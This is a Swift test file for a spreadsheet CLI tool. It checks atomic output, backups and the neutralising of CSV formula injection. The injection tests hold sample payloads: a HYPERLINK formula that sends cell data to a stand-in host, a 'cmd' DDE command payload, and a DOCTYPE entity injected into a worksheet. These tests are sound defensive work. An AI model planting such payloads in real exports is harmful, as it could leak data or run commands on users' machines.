import Foundation
import GoalSheetCLI
import GoalSheetSupport
import OutputFormats
import Report
import Testing
import ZIPArchive

#if canImport(Glibc)
    import Glibc
#elseif canImport(Darwin)
    import Darwin
#endif

/// Nothing GoalSheet did not write is ever deleted or overwritten; outputs are complete or absent.
@Suite("Safe outputs", .serialized)
struct SafeOutputTests {
    func tempDir() -> String {
        let d = NSTemporaryDirectory() + "goalsheet-safe-\(UUID().uuidString)"
        try? FileManager.default.createDirectory(atPath: d, withIntermediateDirectories: true)
        return d
    }

    func listing(_ dir: String) -> [String] {
        ((try? FileManager.default.contentsOfDirectory(atPath: dir)) ?? []).sorted()
    }

    let company = samplesDir + "/nexbridge_company_okr.xlsx"

    @Test func inPlaceKeepsEveryBackupFolderLinkAndMode() throws {
        let dir = tempDir()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let fm = FileManager.default
        let file = dir + "/dept.xlsx"
        try fm.copyItem(atPath: samplesDir + "/dev_okr_2025h2.xlsx", toPath: file)
        let original = try Data(contentsOf: URL(fileURLWithPath: file))
        try fm.createDirectory(atPath: dir + "/dept.xlsx.bak/sub", withIntermediateDirectories: true)
        try Data("user data".utf8).write(to: URL(fileURLWithPath: dir + "/dept.xlsx.bak/sub/precious.txt"))
        try Data("old".utf8).write(to: URL(fileURLWithPath: dir + "/dept.xlsx.1.bak"))
        try fm.setAttributes([.posixPermissions: 0o444], ofItemAtPath: file)
        try fm.createSymbolicLink(atPath: dir + "/link.xlsx", withDestinationPath: "dept.xlsx")

        #expect(
            cliExitCode(["annotate", "--company", company, "--as-of", "2025-12-31", "--in-place", dir + "/link.xlsx"])
                == 0)
        #expect(listing(dir) == ["dept.xlsx", "dept.xlsx.1.bak", "dept.xlsx.2.bak", "dept.xlsx.bak", "link.xlsx"])
        #expect(try String(contentsOfFile: dir + "/dept.xlsx.bak/sub/precious.txt", encoding: .utf8) == "user data")
        #expect(try String(contentsOfFile: dir + "/dept.xlsx.1.bak", encoding: .utf8) == "old")
        #expect(try Data(contentsOf: URL(fileURLWithPath: dir + "/dept.xlsx.2.bak")) == original)
        #expect(try fm.destinationOfSymbolicLink(atPath: dir + "/link.xlsx") == "dept.xlsx")
        #expect(try fm.attributesOfItem(atPath: file)[.posixPermissions] as? Int == 0o444)
        #expect(try Data(contentsOf: URL(fileURLWithPath: file)) != original)
    }

    struct Refused: Error {}

    @Test func aFailedReplacementLeavesTheFileAndNoBackup() throws {
        let dir = tempDir()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let file = dir + "/dept.xlsx"
        try Data("original".utf8).write(to: URL(fileURLWithPath: file))
        #expect(throws: Refused.self) {
            _ = try InPlaceReplacement.replace(file) { staged in
                try Data("half".utf8).write(to: URL(fileURLWithPath: staged))
                throw Refused()
            }
        }
        #expect(listing(dir) == ["dept.xlsx"])
        #expect(try String(contentsOfFile: file, encoding: .utf8) == "original")
        let folder = dir + "/folder.xlsx"
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        #expect(throws: SafeOutputError.self) { _ = try InPlaceReplacement.replace(folder) { _ in } }
    }

    @Test func aRunReplacesTheEarlierRunWhole() throws {
        let dir = tempDir()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let out = dir + "/out"
        let args = [
            "analyze", "--company", company, samplesDir + "/dev_okr_2025h2.xlsx", "--as-of", "2025-12-31", "--out", out,
        ]
        #expect(cliExitCode(args) == 0)
        #expect(listing(out).contains("summary.xlsx") && listing(out).contains("annotated"))
        // A killed run's folder and an earlier run: the first is cleaned up, the second kept aside.
        try FileManager.default.createDirectory(atPath: dir + "/.out.999999999.tmp", withIntermediateDirectories: true)
        #expect(cliExitCode(args + ["--no-annotate"]) == 0)
        #expect(listing(dir) == ["out", "out.previous"])
        #expect(
            listing(out) == [
                ".goalsheet-run", "alignment.csv", "departments.csv", "findings.csv", "manifest.json", "model.json",
                "summary.csv",
            ])
        #expect(listing(out + ".previous").contains("summary.xlsx"))
        // Removing the earlier run (the one without workbooks) leaves the one before it as it was.
        #expect(cliExitCode(args + ["--previous", "remove"]) == 0)
        #expect(listing(dir) == ["out", "out.previous"] && listing(out).contains("summary.xlsx"))
        #expect(listing(out + ".previous").contains("summary.xlsx"))
    }

    @Test func aFileThatCannotBeWrittenIsNamedWithTheSystemsReason() throws {
        let dir = tempDir()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Data("x".utf8).write(to: URL(fileURLWithPath: dir + "/file"))
        let e = #expect(throws: SafeOutputError.self) { try AtomicFile.write("a,b\n", to: dir + "/file/goals.csv") }
        #expect(e?.description == dir + "/file/goals.csv: cannot be written: Not a directory")
        #expect(e?.kind == .io)
        let run = #expect(throws: SafeOutputError.self) { _ = try RunFolder(target: dir + "/file/out") }
        #expect(run?.description == dir + "/file/out: the run's folder cannot be made beside it: Not a directory")
        // A failure inside the run names the file as it would have been, and keeps nothing.
        let folder = try RunFolder(target: dir + "/out")
        let failed = folder.discard(
            after: SafeOutputError(.io, folder.path("goals.json"), "cannot be written: No space left on device"))
        #expect(
            failed.description == dir
                + "/out/goals.json: cannot be written: No space left on device; nothing of this run was kept, and \(dir)/out is as it was"
        )
        #expect(listing(dir) == ["file"])
    }

    @Test func aCommitSwapsTheRunInOneStep() throws {
        let dir = tempDir()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        for (n, previous) in [RunFolder.Previous.keep, .keep, .remove].enumerated() {
            let folder = try RunFolder(target: dir + "/out")
            try AtomicFile.write("run \(n)\n", to: folder.path("summary.csv"))
            try folder.commit(previous: previous)
        }
        #expect(listing(dir) == ["out", "out.previous"])
        #expect(try String(contentsOfFile: dir + "/out/summary.csv", encoding: .utf8) == "run 2\n")
        #expect(try String(contentsOfFile: dir + "/out.previous/summary.csv", encoding: .utf8) == "run 0\n")
    }

    @Test func aFolderOfSomeoneElsesFilesIsNeverReplaced() throws {
        let dir = tempDir()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Data("mine".utf8).write(to: URL(fileURLWithPath: dir + "/notes.txt"))
        #expect(cliExitCode(["normalize", samplesDir + "/dev_okr_2025h2.xlsx", "--out", dir]) != 0)
        #expect(listing(dir) == ["notes.txt"])
        #expect(
            listing((dir as NSString).deletingLastPathComponent).filter {
                $0.hasPrefix(".\((dir as NSString).lastPathComponent).")
            }.isEmpty)
    }

    @Test func onlyRegularFilesAreOpened() throws {
        let dir = tempDir()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        #expect(mkfifo(dir + "/pipe.xlsx", 0o600) == 0)
        try FileManager.default.createDirectory(atPath: dir + "/folder.xlsx", withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: samplesDir + "/dev_okr_2025h2.xlsx", toPath: dir + "/dept.xlsx")
        // A FIFO named .xlsx would block open() forever: a clear error, at once.
        #expect(cliExitCode(["cat", dir + "/pipe.xlsx"]) == 1)
        // In a folder, the FIFO and the folder named .xlsx are skipped and the batch goes on.
        #expect(cliExitCode(["normalize", dir, "--out", dir + "/out"]) == 0)
        let goals = try String(contentsOfFile: dir + "/out/goals.csv", encoding: .utf8)
        #expect(goals.contains("dept.xlsx") && !goals.contains("pipe.xlsx"))
    }

    /// A sheet GoalSheet refused (a DOCTYPE) fails its file as an unreadable file does: exit 3, and its
    /// workbook is not annotated, so the refused part is never copied into the manager's copy.
    @Test func anUnreadableSheetFailsItsFile() throws {
        let dir = tempDir()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let source = try ZipArchive(path: samplesDir + "/dev_okr_2025h2.xlsx")
        let file = dir + "/dtd.xlsx"
        let w = try ZipWriter(path: file)
        for e in source.entries {
            var bytes = try source.contents(of: e)
            if e.name == "xl/worksheets/sheet1.xml" {
                bytes = Array("<!DOCTYPE worksheet [<!ENTITY e \"x\">]>".utf8) + bytes
            }
            try w.add(name: e.name, data: bytes)
        }
        try w.finish()
        #expect(cliExitCode(["normalize", file, "--out", dir + "/n"]) == 3)
        #expect(
            cliExitCode(["analyze", "--company", company, file, "--as-of", "2025-12-31", "--out", dir + "/o"]) == 3)
        #expect(listing(dir + "/o/annotated") == ["nexbridge_company_okr.annotated.xlsx"])
        #expect(cliExitCode(["annotate", "--company", company, file, "--as-of", "2025-12-31"]) == 3)
        #expect(!listing(dir).contains("dtd.annotated.xlsx"))
    }

    @Test func temporariesSitBesideTheirOutput() {
        let pid = getpid()
        #expect(FileIO.temporaryPath(beside: "o") == ".o.\(pid).tmp")
        #expect(FileIO.temporaryPath(beside: "runs/q3") == "runs/.q3.\(pid).tmp")
        #expect(FileIO.temporaryPath(beside: "/q3") == "//.q3.\(pid).tmp")
    }

    @Test func aKilledAnnotateLeavesNothingTheNextOneKeeps() throws {
        let dir = tempDir()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let live = getpid()
        let names = [
            ".out.xlsx.999999999.tmp", ".out.xlsx.999999999.part1.tmp", ".out.xlsx.\(live).part1.tmp",
            ".out.xlsx.999999999.parts.txt", ".other.xlsx.999999999.part1.tmp",
        ]
        for n in names { #expect(FileManager.default.createFile(atPath: dir + "/" + n, contents: Data())) }
        let removed = WorkbookTemporary.removeStale(of: dir + "/out.xlsx").map { ($0 as NSString).lastPathComponent }
        #expect(removed.sorted() == [".out.xlsx.999999999.part1.tmp", ".out.xlsx.999999999.tmp"])
        #expect(
            listing(dir)
                == [
                    ".other.xlsx.999999999.part1.tmp", ".out.xlsx.999999999.parts.txt", ".out.xlsx.\(live).part1.tmp",
                ].sorted())
    }
}

@Suite("CSV injection")
struct CSVInjectionTests {
    @Test(arguments: [
        ("=HYPERLINK(\"http://x\"&A1,\"詳細\")", "'=HYPERLINK(\"http://x\"&A1,\"詳細\")"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"), ("\t=1+1", "'\t=1+1"), ("-5", "-5"), ("+3.5", "+3.5"), ("売上", "売上"), ("-", "'-"),
    ])
    func fieldsThatWouldRunAreNeutralised(_ field: String, _ written: String) {
        #expect(CSVWriter.neutralized(field) == written)
    }

    @Test func rawKeepsThemForMachines() {
        let people = CSVWriter()
        people.row(["=1+1", "-2"])
        let machines = CSVWriter(raw: true)
        machines.row(["=1+1", "-2"])
        #expect(people.text == "'=1+1,-2\r\n" && machines.text == "=1+1,-2\r\n")
    }
}
